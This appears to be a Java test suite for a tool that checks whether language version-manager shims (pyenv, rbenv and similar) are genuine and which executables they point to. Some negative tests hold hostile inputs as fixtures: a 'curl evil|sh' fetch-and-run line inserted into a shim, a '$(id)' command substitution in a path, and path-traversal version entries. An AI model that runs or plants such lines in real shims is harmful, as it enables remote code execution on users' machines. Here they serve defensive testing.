package dev.auditpath.provenance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.host.Host;
import dev.auditpath.host.Problems;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class EnvFamilyShimTest {
  private static final String PYENV =
      """
      #!/usr/bin/env bash
      set -e
      [ -n "$PYENV_DEBUG" ] && set -x

      program="${0##*/}"

      export PYENV_ROOT="ROOT"
      SHIM_PATH=${0%/*}
      if [[ $SHIM_PATH != "ROOT/shims" ]]; then
        export _PYENV_SHIM_PATH="$SHIM_PATH"
      fi
      exec "ROOT/libexec/pyenv" exec "$program" "$@"
      """;
  private static final String RBENV =
      """
      #!/usr/bin/env bash
      set -e
      [ -n "$RBENV_DEBUG" ] && set -x

      program="${0##*/}"
      if [[ "$program" =~ ^ruby([0-9][.0-9]+)?$ ]]; then
        for arg; do
          case "$arg" in
          -e* | -- ) break ;;
          */* )
            if [ -f "$arg" ]; then
              export RBENV_DIR="${arg%/*}"
              break
            fi
            ;;
          esac
        done
      fi

      export RBENV_ROOT="ROOT"
      exec "ROOT/libexec/rbenv" exec "$program" "$@"
      """;
  private static final String PLENV =
      """
      #!/usr/bin/env bash
      set -e
      [[ -n "$PLENV_DEBUG" ]] && set -x

      program="${0##*/}"
      if [[ "$program" = "perl" ]]; then
        for arg; do
          [[ "$arg" =~ ^(--$|-[0A-Za-z]*[eE].*) ]] && break
          if [[ "$arg" =~ / && -f "$arg" ]]; then
            export PLENV_DIR="${arg%/*}"
            break
          fi
        done
      fi

      export PLENV_ROOT="ROOT"
      exec "ROOT/libexec/plenv" exec "$program" "$@"
      """;
  private static final String PHPENV =
      """
      #!/usr/bin/env bash
      set -e
      export PHPENV_ROOT="ROOT"
      exec ROOT/bin/phpenv exec "${0##*/}" "$@"
      """;

  @TempDir Path directory;
  private Workshop machine;

  @BeforeEach
  void buildPyenv() throws IOException {
    machine = Workshop.in(directory);
    machine.write("home/.pyenv/libexec/pyenv", "#!/usr/bin/env bash\n");
    machine.write("home/.pyenv/versions/3.11.7/bin/pip", "");
    machine.write("home/.pyenv/versions/3.11.10/bin/pip", "");
    machine.write("home/.pyenv/versions/3.9.1/bin/pip", "");
    machine.write("home/.pyenv/versions/3.9.1/bin/black", "");
    machine.write("home/.pyenv/version", "3.11.7\n");
  }

  @Test
  void globalVersion_standsBeforeTheOthers() throws IOException {
    assertThat(machine.targets(EnvFamilyShim.PYENV, pyenvShim("pip")))
        .contains(
            List.of(
                version("3.11.7/bin/pip"), version("3.11.10/bin/pip"), version("3.9.1/bin/pip")));
  }

  @Test
  void versionFileAboveTheWorkingDirectory_selectsSeveral() throws IOException {
    machine.write("home/.python-version", "# mine\n3.9.1\nsystem\n3.11\n");

    assertThat(machine.targets(EnvFamilyShim.PYENV, pyenvShim("pip")))
        .contains(
            List.of(
                version("3.9.1/bin/pip"), version("3.11.10/bin/pip"), version("3.11.7/bin/pip")));
  }

  @Test
  void variable_beatsTheFiles() throws IOException {
    Workshop withVariable = machine.with("PYENV_VERSION", "3.11.10:3.9.1");

    assertThat(withVariable.targets(EnvFamilyShim.PYENV, pyenvShim("pip")).orElseThrow())
        .startsWith(version("3.11.10/bin/pip"), version("3.9.1/bin/pip"));
  }

  @Test
  void commandOfAnotherVersionOnly_isStillATarget() throws IOException {
    assertThat(machine.targets(EnvFamilyShim.PYENV, pyenvShim("black")))
        .contains(List.of(version("3.9.1/bin/black")));
  }

  @Test
  void commandOfNoVersion_hasNoTarget() throws IOException {
    assertThat(machine.targets(EnvFamilyShim.PYENV, pyenvShim("gone"))).contains(List.of());
  }

  @Test
  void versionThatClimbsOutOrHoldsANul_isNoVersion() throws IOException {
    machine.write("home/evil/bin/pip", "");
    machine.write("home/.python-version", "../../evil\n\0\n..\n");

    assertThat(machine.targets(EnvFamilyShim.PYENV, pyenvShim("pip")).orElseThrow()).hasSize(3);
  }

  @Test
  void oneMoreLine_isNoShim() throws IOException {
    Path shim = pyenvShim("pip");
    Files.writeString(shim, Files.readString(shim).replace("set -e\n", "set -e\ncurl evil|sh\n"));

    assertThat(machine.targets(EnvFamilyShim.PYENV, shim)).isEmpty();
  }

  @Test
  void textAfterTheEnd_isNoShim() throws IOException {
    Path shim = pyenvShim("pip");
    Files.writeString(shim, Files.readString(shim) + "\n");

    assertThat(machine.targets(EnvFamilyShim.PYENV, shim)).isEmpty();
  }

  @Test
  void managerOutsideItsRoot_isNoShim() throws IOException {
    Path foreign = machine.write("home/evil/pyenv", "#!/bin/sh\n");
    Path shim = pyenvShim("pip");
    String text = Files.readString(shim).replace(root("pyenv") + "/libexec/pyenv", "" + foreign);
    Files.writeString(shim, text);

    assertThat(machine.targets(EnvFamilyShim.PYENV, shim)).isEmpty();
  }

  @Test
  void managerAmongAVersionsCommands_isNoShim() throws IOException {
    Path foreign = machine.write("home/.pyenv/versions/3.9.1/bin/pyenv", "#!/bin/sh\n");
    Path shim = pyenvShim("pip");
    String text = Files.readString(shim).replace(root("pyenv") + "/libexec/pyenv", "" + foreign);
    Files.writeString(shim, text);

    assertThat(machine.targets(EnvFamilyShim.PYENV, shim)).isEmpty();
  }

  @Test
  void commandInTheRootsText_isNoShim() throws IOException {
    Path shim = pyenvShim("pip");
    Files.writeString(shim, Files.readString(shim).replace(root("pyenv").toString(), "/tmp/$(id)"));

    assertThat(machine.targets(EnvFamilyShim.PYENV, shim)).isEmpty();
  }

  @Test
  void shimElsewhere_isNoShim() throws IOException {
    Path copy = machine.write("home/bin/pip", Files.readString(pyenvShim("pip")));

    assertThat(machine.targets(EnvFamilyShim.PYENV, copy)).isEmpty();
  }

  @Test
  void managersOfTheSameFamily_areReadByTheirOwnReaderOnly() throws IOException {
    Path ruby = shim("rbenv", "libexec", "irb", RBENV);
    Path perl = shim("plenv", "libexec", "cpanm", PLENV);
    Path php = shim("phpenv", "bin", "composer", PHPENV);

    assertThat(machine.targets(EnvFamilyShim.RBENV, ruby).orElseThrow()).hasSize(1);
    assertThat(machine.targets(EnvFamilyShim.PLENV, perl).orElseThrow()).hasSize(1);
    assertThat(machine.targets(EnvFamilyShim.PHPENV, php).orElseThrow()).hasSize(1);
    assertThat(machine.targets(EnvFamilyShim.PYENV, ruby)).isEmpty();
    assertThat(machine.targets(EnvFamilyShim.RBENV, perl)).isEmpty();
  }

  @Test
  void descendantsThatDifferInTheirCondition_areFollowed() throws IOException {
    String ruby = "[[ \"$program\" =~ ^ruby([0-9][.0-9]+)?$ ]]";
    String node = RBENV.replace("RBENV", "NODENV").replace(ruby, "[ \"$program\" = \"node\" ]");
    String java = RBENV.replace("RBENV", "JENV").replace(ruby, "[ \"$program\" = \"java\" ]");
    String go =
        RBENV
            .replace("RBENV", "GOENV")
            .replace(ruby, "[[ \"$program\" = \"go\"* ]]")
            .replace("-e*", "-c*")
            .replace("GOENV_DIR=\"${arg%/*}\"", "GOENV_FILE_ARG=\"$arg\"");

    assertThat(machine.targets(EnvFamilyShim.NODENV, shim("nodenv", "libexec", "npm", node)))
        .hasValueSatisfying(files -> assertThat(files).hasSize(1));
    assertThat(machine.targets(EnvFamilyShim.JENV, shim("jenv", "libexec", "javac", java)))
        .hasValueSatisfying(files -> assertThat(files).hasSize(1));
    assertThat(machine.targets(EnvFamilyShim.GOENV, shim("goenv", "libexec", "gofmt", go)))
        .hasValueSatisfying(files -> assertThat(files).hasSize(1));
  }

  @Test
  void shimsOfThisMachinesPyenv_areAllRecognised() throws IOException {
    Host host = Host.local();
    Path shims = host.home().resolve(".pyenv/shims");
    Assumptions.assumeTrue(Files.isDirectory(shims), "no pyenv in the home of this machine");
    try (Stream<Path> files = Files.list(shims)) {
      for (Path shim : files.toList()) {
        assertThat(EnvFamilyShim.PYENV.targets(Workshop.candidate(shim), host, new Problems(host)))
            .as("%s", shim)
            .isPresent();
      }
    }
  }

  private Path pyenvShim(String command) throws IOException {
    return machine.write(
        "home/.pyenv/shims/" + command,
        PYENV.replace("ROOT\"", root("pyenv") + "\"").replace("ROOT/", root("pyenv") + "/"));
  }

  private Path shim(String manager, String place, String command, String body) throws IOException {
    String home = "home/." + manager + "/";
    String text = body.replace("/libexec/rbenv\"", "/libexec/" + manager + "\"");
    machine.write(home + place + "/" + manager, "");
    machine.write(home + "versions/1.0/bin/" + command, "");
    return machine.write(
        home + "shims/" + command,
        text.replace("ROOT\"", root(manager) + "\"").replace("ROOT/", root(manager) + "/"));
  }

  private Path root(String manager) {
    return machine.home().resolve("." + manager);
  }

  private Path version(String file) {
    return root("pyenv").resolve("versions").resolve(file);
  }
}
